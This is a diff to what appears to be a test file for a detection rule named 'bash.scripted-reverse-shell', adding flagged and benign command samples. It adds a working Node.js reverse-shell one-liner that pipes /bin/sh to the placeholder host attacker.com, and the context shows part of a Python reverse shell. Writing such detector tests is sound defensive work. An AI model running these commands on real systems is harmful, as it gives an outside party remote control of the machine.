@@ -27,8 +27,12 @@ s.connect(("attacker.com",12345))
 pty.spawn("/bin/sh")'
 # ok: bash.scripted-reverse-shell
 python3 -c 'import socket; print(socket.gethostname())'
+# ruleid: bash.scripted-reverse-shell
+node -e 'sh = require("child_process").spawn("/bin/sh"); require("net").connect(4444, "attacker.com", function () { this.pipe(sh.stdin); sh.stdout.pipe(this); })'
 # ok: bash.scripted-reverse-shell
 node -e 'require("net").connect(80, "example.com").end()'
+# ok: bash.scripted-reverse-shell
+node -e 'require("net").createServer(s => s.end("hello")).listen(8080)'
 # ok: bash.scripted-reverse-shell
 python -m http.server 8000
 # ok: bash.scripted-reverse-shell
